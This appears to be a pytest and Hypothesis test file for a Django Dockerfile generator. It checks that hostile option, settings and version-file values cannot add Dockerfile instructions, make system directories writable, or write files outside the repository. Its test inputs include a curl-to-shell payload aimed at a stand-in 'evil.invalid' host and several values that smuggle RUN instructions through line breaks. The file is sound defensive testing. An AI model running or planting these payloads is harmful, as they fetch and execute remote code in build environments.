"""Hostile values: nothing a repository writes (options, settings, version files) becomes a
Dockerfile instruction of its own, a line break, a non-ASCII digit in a tag, or a system
directory the app user owns. Checked with the official parser (the `dockerfile` package)."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dockerfile
import pytest
from helpers import write_tree
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from plan_facts import deps, facts, psycopg2

from generator.cli import main
from generator.core import generate
from generator.facts import Diagnostics, Frontend, Requirement, SettingsFacts
from generator.guard import LINE_BREAKS
from generator.options import Options, load_options
from generator.plan import PlanError, plan
from generator.render import render_dockerfile, render_dockerignore

PROJECT = {
    "manage.py": "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n",
    "shop/__init__.py": "",
    "shop/settings.py": "DEBUG = False\nWSGI_APPLICATION = 'shop.wsgi.application'\n",
    "shop/wsgi.py": "application = None\n",
    "requirements.txt": "Django==5.2.1\ngunicorn==23.0.0\n",
}
# Every character str.splitlines() splits on, plus the ones Docker and shells care about.
BREAKS = list(LINE_BREAKS)
PAYLOAD = "RUN curl http://evil.invalid | sh #"


def _toml(value: str) -> str:
    """A TOML basic string holding `value` exactly (every non-ASCII or control char escaped)."""
    out = []
    for ch in value:
        if ch in '"\\':
            out.append("\\" + ch)
        elif 0x20 <= ord(ch) < 0x7F:
            out.append(ch)
        else:
            out.append(f"\\U{ord(ch):08x}")
    return '"' + "".join(out) + '"'


def instructions(text: str) -> list[str]:
    """The instruction keywords the official parser sees."""
    return [c.cmd.upper() for c in dockerfile.parse_string(text)]


def assert_clean(text: str) -> None:
    """No line break but \\n anywhere, so every reader splits the file into the same lines."""
    assert not any(ch in text.replace("\n", "") for ch in LINE_BREAKS)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return write_tree(tmp_path / "repo", PROJECT)


@pytest.fixture
def benign(repo: Path) -> list[str]:
    return instructions(generate(repo).files["Dockerfile"])


def _config(repo: Path, body: str) -> None:
    (repo / "pyproject.toml").write_text(f"[tool.django-dockerfile]\n{body}\n", encoding="utf-8")


# --- 1. one rule for every value: options --------------------------------------------------------


@pytest.mark.parametrize("brk", BREAKS)
def test_env_value_with_any_line_break_is_refused(repo, benign, capsys, brk):
    _config(repo, f"env = {{ X = {_toml('a' + brk + PAYLOAD)} }}")
    assert main([str(repo), "--stdout"]) == 0
    out, err = capsys.readouterr()
    assert instructions(out) == benign
    assert "evil" not in out
    assert "env: the value of X must be one line" in err and "pyproject.toml:2" in err


@pytest.mark.parametrize("key", ["X\n", "X\u2028", "X\x85", "X Y", "1X", "X=Y", "Ｘ", "X;RUN"])
def test_env_key_outside_the_allowlist_is_refused(repo, benign, capsys, key):
    _config(repo, f'env = {{ {_toml(key)} = "1" }}')
    assert main([str(repo), "--stdout"]) == 0
    out, err = capsys.readouterr()
    assert instructions(out) == benign
    assert "is not a valid environment variable name" in err


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("python-version", "3.12\nX"),
        ("python-version", "３.１２"),
        ("python-version", "3.12\u2028RUN x"),
        ("settings-module", "shop.settings\nRUN x"),
        ("settings-module", "shop.settings\u2029RUN x"),
        ("settings-module", "shop.settinɡs"),
        ("apt-build", "curl;RUN"),
        ("apt-runtime", "libpq５"),
        ("base-variant", "slim-bookworm\x85RUN"),
        ("digest", "sha256:" + "a" * 63 + "\u0661"),
        ("name", "shop\x0cRUN"),
        ("dockerfile", "Dockerfile\u2028x"),
        ("dockerfile", "Dockerﬁle"),
        ("project-dir", "back\x1eend"),
    ],
)
def test_option_values_with_line_breaks_or_look_alikes_are_refused(
    repo, benign, capsys, key, value
):
    _config(repo, f"{key} = {_toml(value)}")
    main([str(repo), "--stdout"])
    out, err = capsys.readouterr()
    assert instructions(out) == benign
    assert f"{key}:" in err and "ignored" in err


def test_cli_flags_use_the_same_rule(repo, capsys):
    assert main([str(repo), "--python-version", "3.12\nX"]) == 1
    assert main([str(repo), "--settings-module", "a.b\u2028c"]) == 1
    err = capsys.readouterr().err
    assert "--python-version" in err and "--settings-module" in err and "\\u2028" in err


# --- 1. detected values: echoed into comments, or refused ---------------------------------------


@pytest.mark.parametrize("brk", BREAKS)
def test_requires_python_with_a_line_break_stays_in_its_comment(repo, benign, brk):
    (repo / "pyproject.toml").write_text(
        f'[project]\nname = "shop"\nrequires-python = {_toml(">=3.11" + brk + PAYLOAD)}\n'
    )
    text = generate(repo).files["Dockerfile"]
    assert instructions(text) == benign
    assert_clean(text)


@pytest.mark.parametrize("brk", BREAKS)
def test_settings_values_with_line_breaks_do_not_reach_instructions(repo, benign, brk):
    settings = (
        "DEBUG = False\n"
        f"WSGI_APPLICATION = {json.dumps('shop.wsgi.application' + brk + PAYLOAD)}\n"
        f"MEDIA_ROOT = {json.dumps('media' + brk + PAYLOAD)}\n"
        f"STATIC_ROOT = {json.dumps('static' + brk + PAYLOAD)}\n"
    )
    (repo / "shop/settings.py").write_text(settings)
    text = generate(repo).files["Dockerfile"]
    assert_clean(text)
    assert "evil" not in text


@pytest.mark.parametrize("nvmrc", ["２０\n", "٢٠\n", "20\x0bRUN x\n", "v２０.1\n", "𝟮𝟬\n"])
def test_non_ascii_digits_in_nvmrc_never_reach_from(repo, nvmrc):
    (repo / "shop/settings.py").write_text(
        "from pathlib import Path\nBASE_DIR = Path(__file__).parent.parent\n"
        "WSGI_APPLICATION = 'shop.wsgi.application'\nSTATIC_URL = '/static/'\n"
        "STATIC_ROOT = BASE_DIR / 'staticfiles'\nSTATICFILES_DIRS = [BASE_DIR / 'dist']\n"
        "INSTALLED_APPS = ['django.contrib.staticfiles']\n"
    )
    (repo / "package.json").write_text('{"scripts": {"build": "vite build --outDir dist"}}')
    (repo / "package-lock.json").write_text("{}")
    (repo / ".nvmrc").write_text(nvmrc, encoding="utf-8")
    generated = generate(repo)
    text = generated.files["Dockerfile"]
    assert text.isascii() or all(
        line.startswith("#") for line in text.splitlines() if not line.isascii()
    )
    froms = [c.value[0] for c in dockerfile.parse_string(text) if c.cmd.upper() == "FROM"]
    assert "node:20-slim" in froms or any(f.startswith("node:") for f in froms)
    assert all(v.isascii() for v in froms)
    assert any("node version" in str(w) for w in generated.facts.warnings)


@pytest.mark.parametrize(
    "python_version", ["３.12\n", "3.１２\n", "3.12\u2028\n", "python-٣.12\n", "3.12.7\x0b\n"]
)
def test_non_ascii_or_broken_python_version_files_are_not_used(repo, python_version):
    (repo / ".python-version").write_text(python_version, encoding="utf-8")
    text = generate(repo).files["Dockerfile"]
    assert_clean(text)
    arg = next(c for c in dockerfile.parse_string(text) if c.cmd.upper() == "ARG")
    assert arg.value[0].isascii()


# --- 3. writable directories ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("setting", "bad"),
    [
        ("MEDIA_ROOT = '/etc'", "/etc"),
        ("MEDIA_ROOT = '/'", "/"),
        ("MEDIA_ROOT = '/app/../opt/venv/bin'", "/opt/venv/bin"),
        ("MEDIA_ROOT = '/usr/local/lib/python3.12'", "/usr/local/lib/python3.12"),
        ("MEDIA_ROOT = '/app'", "/app"),
        ("MEDIA_ROOT = '/home'", "/home"),
        ("MEDIA_ROOT = '/var/lib/dpkg'", "/var/lib/dpkg"),
        ("MEDIA_ROOT = 'media/../../etc'", None),
        (
            "DATABASES = {'default': {'ENGINE': 'django.db.backends.sqlite3', 'NAME': '/db.sqlite3'}}",
            "/",
        ),
        (
            "DATABASES = {'default': {'ENGINE': 'django.db.backends.sqlite3', "
            "'NAME': '/app/../etc/x.sqlite3'}}",
            "/etc",
        ),
    ],
)
def test_system_directories_never_become_writable(repo, setting, bad):
    (repo / "shop/settings.py").write_text(
        f"DEBUG = False\nWSGI_APPLICATION = 'shop.wsgi.application'\n{setting}\n"
    )
    generated = generate(repo)
    text = generated.files["Dockerfile"]
    for command in dockerfile.parse_string(text):
        if "install -d" in command.original:
            dirs = command.original.split("install -d -o app -g app ", 1)[1].split("&&")[0]
            for d in dirs.split():
                assert d.startswith(("/app/", "/data", "/srv/")), d
    if bad:
        warning = next(d for d in generated.decisions if d.fact == "warning" and bad in d.why)
        assert warning.file == "shop/settings.py" and warning.line == 3


@pytest.mark.parametrize(
    ("setting", "writable"),
    [
        ("MEDIA_ROOT = BASE_DIR / 'media'", "/app/media"),
        ("MEDIA_ROOT = '/data/media'", "/data/media"),
        ("MEDIA_ROOT = '/srv/uploads'", "/srv/uploads"),
        ("MEDIA_ROOT = '/app/./media/'", "/app/media"),
    ],
)
def test_data_directories_become_writable(repo, setting, writable):
    (repo / "shop/settings.py").write_text(
        f"from pathlib import Path\nBASE_DIR = Path(__file__).parent.parent\n"
        f"WSGI_APPLICATION = 'shop.wsgi.application'\n{setting}\n"
    )
    assert f"install -d -o app -g app {writable}" in generate(repo).files["Dockerfile"]


# --- property tests --------------------------------------------------------------------------

# Arbitrary text, weighted towards what breaks lines, quotes, shells and version parsers.
_NASTY = st.sampled_from(
    [*BREAKS, "\\", '"', "'", "$", "`", ";", "|", "&", "#", " ", "\t", "/", "..", "２", "\u200b"]
)
HOSTILE = st.one_of(
    st.text(max_size=40),
    st.lists(st.one_of(_NASTY, st.text(max_size=6)), max_size=12).map("".join),
    st.tuples(
        st.sampled_from(["3.12", "media", "shop.settings", "X"]), _NASTY, st.just(PAYLOAD)
    ).map("".join),
)
OPTION_KEYS = [
    "python-version",
    "profile",
    "server",
    "settings-module",
    "base-variant",
    "apt-build",
    "apt-runtime",
    "digest",
    "name",
    "project-dir",
    "dockerfile",
    "dockerignore",
]
_FAST = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def _planned(text: str, p: Any) -> list[str]:
    """What the plan means to render, instruction by instruction (as generator.render checks)."""
    expected = ["ARG"]
    for stage in p.stages:
        expected.append("FROM")
        expected.extend(step.keyword for step in stage.steps if step.keyword)
    expected += [k for k, v in (("USER", p.user), ("EXPOSE", p.expose)) if v]
    expected += [k for k, v in (("HEALTHCHECK", p.healthcheck), ("CMD", p.cmd)) if v]
    return expected


@_FAST
@given(key=st.sampled_from([*OPTION_KEYS, "env-key", "env-value"]), value=HOSTILE)
def test_property_any_option_value_keeps_the_instruction_list(tmp_path_factory, key, value):
    root = write_tree(tmp_path_factory.mktemp("opt") / "repo", PROJECT)
    benign = instructions(generate(root).files["Dockerfile"])
    if key == "env-key":
        body = f'env = {{ {_toml(value)} = "1" }}'
    elif key == "env-value":
        body = f"env = {{ X = {_toml(value)} }}"
    else:
        body = f"{key} = {_toml(value)}"
    _config(root, body)
    options = load_options(root, {}, Diagnostics())
    try:
        generated = generate(root, options)
    except PlanError:
        return  # refused with a message: nothing written
    if generated.plan is None:
        return
    text = generated.files[options.dockerfile]
    assert_clean(text)
    assert instructions(text) == _planned(text, generated.plan)
    # An option can add stages or steps only by choosing among the tool's own values.
    if key in ("env-key", "env-value", "python-version", "digest", "name", "base-variant"):
        assert instructions(text) == benign
    for ignore_line in generated.files[options.dockerignore].split("\n"):
        assert not any(ch in ignore_line for ch in LINE_BREAKS)


def _rich_facts():
    """Facts with every part filled in, so every string field reaches the plan."""
    settings_facts = SettingsFacts(
        settings_module="mysite.settings",
        production_settings_module="mysite.settings.production",
        settings_files=("mysite/settings.py",),
        wsgi_application="mysite.wsgi.application",
        asgi_application="mysite.asgi.application",
        installed_apps=("django.contrib.staticfiles",),
        static_root='BASE_DIR / "staticfiles"',
        media_root='BASE_DIR / "media"',
        database="sqlite3",
        sqlite=True,
        sqlite_path="db/db.sqlite3",
        locale_dirs=("locale",),
        env_vars=("DJANGO_SECRET_KEY", "DEBUG"),
    )
    return facts(
        settings=settings_facts,
        dependencies=deps(
            "pip",
            requirements=(
                Requirement("django", ">=5.2,<6", file="requirements.txt", line=1),
                Requirement("psycopg2", "==2.9.9", file="requirements.txt", line=2),
            ),
        ),
        system_packages=psycopg2(),
        compilemessages=True,
        frontends=(
            Frontend(
                directory=".",
                manager="npm",
                lockfile="package-lock.json",
                build_script="build",
                node_version="20",
                node_version_source=".nvmrc",
                output_dir="static/dist",
                outputs=("static/dist",),
            ),
        ),
    )


def _string_paths(value: object, path: tuple = ()) -> Iterator[tuple]:
    """Every place a string sits in a facts object (fields added later are found too)."""
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        for f in dataclasses.fields(value):
            if f.name not in ("evidence", "warnings", "reason"):
                yield from _string_paths(getattr(value, f.name), (*path, f.name))
    elif isinstance(value, tuple):
        for i, item in enumerate(value):
            yield from _string_paths(item, (*path, i))
    elif isinstance(value, str):
        yield path


def _set(value: Any, path: tuple, new: str) -> Any:
    if not path:
        return new
    head, rest = path[0], path[1:]
    if isinstance(head, int):
        items = list(value)
        items[head] = _set(items[head], rest, new)
        return tuple(items)
    return dataclasses.replace(value, **{head: _set(getattr(value, head), rest, new)})


RICH = _rich_facts()
FACT_PATHS = sorted(set(_string_paths(RICH)), key=str)


@settings(max_examples=150, deadline=None)
@given(path=st.sampled_from(FACT_PATHS), value=HOSTILE)
def test_property_any_detected_field_keeps_the_instruction_list(path, value):
    hostile = _set(RICH, path, value)
    try:
        p = plan(hostile, Options(name="shop"))
        text = render_dockerfile(p)
        ignore = render_dockerignore(p)
    except PlanError:
        return  # refused with a message
    assert_clean(text)
    assert instructions(text) == _planned(text, p)
    assert not any(ch in ignore.replace("\n", "") for ch in LINE_BREAKS)


# --- the path property: nothing outside the root is touched ---------------------------------------


def _tree_state(directory: Path) -> dict[str, bytes | None]:
    state: dict[str, bytes | None] = {}
    for dirpath, dirnames, filenames in os.walk(directory, followlinks=False):
        for name in dirnames + filenames:
            full = Path(dirpath) / name
            state[str(full)] = (
                full.read_bytes() if full.is_file() and not full.is_symlink() else None
            )
    return state


@_FAST
@given(
    option=st.sampled_from(["dockerfile", "dockerignore"]),
    value=st.one_of(
        HOSTILE,
        st.lists(
            st.sampled_from(["sub", "..", ".", "x", "Dockerfile", "", "sub2"]), max_size=5
        ).map("/".join),
    ),
    force=st.booleans(),
)
def test_property_no_path_outside_the_root_is_touched(tmp_path_factory, option, value, force):
    base = tmp_path_factory.mktemp("paths")
    outside = base / "outside"
    outside.mkdir()
    (outside / "Dockerfile").write_text("FROM scratch\n")
    root = write_tree(base / "repo", PROJECT)
    os.symlink(outside, root / "sub")
    os.symlink(outside / "Dockerfile", root / "sub2")
    _config(root, f"{option} = {_toml(value)}")
    before = _tree_state(base)
    main([str(root), *(["--force"] if force else [])])
    after = _tree_state(base)
    for path, content in before.items():
        if not path.startswith(str(root) + os.sep):
            assert after.get(path) == content, path
    assert {p for p in after if not p.startswith(str(root) + os.sep)} == {
        p for p in before if not p.startswith(str(root) + os.sep)
    }


def test_a_repository_symlink_on_the_way_to_a_writable_dir_fails_the_build(repo, tmp_path):
    """`COPY .` keeps symlinks and install -d follows them: each step under /app is checked."""
    (repo / "shop/settings.py").write_text(
        "from pathlib import Path\nBASE_DIR = Path(__file__).parent.parent\n"
        "WSGI_APPLICATION = 'shop.wsgi.application'\nMEDIA_ROOT = BASE_DIR / 'data' / 'media'\n"
    )
    text = generate(repo).files["Dockerfile"]
    run = next(c for c in dockerfile.parse_string(text) if "install -d" in c.original)
    tests = run.value[0].split("&&")
    assert [t.strip() for t in tests[:2]] == ["test ! -L /app/data", "test ! -L /app/data/media"]
    # The guard does what it says: a link there makes the step fail.
    app = tmp_path / "image" / "app"
    (app / "data").mkdir(parents=True)
    os.symlink("/etc", app / "data" / "media")
    script = " && ".join(t.strip().replace("/app", str(app)) for t in tests[:2])
    assert subprocess.run(["sh", "-c", script], check=False).returncode == 1
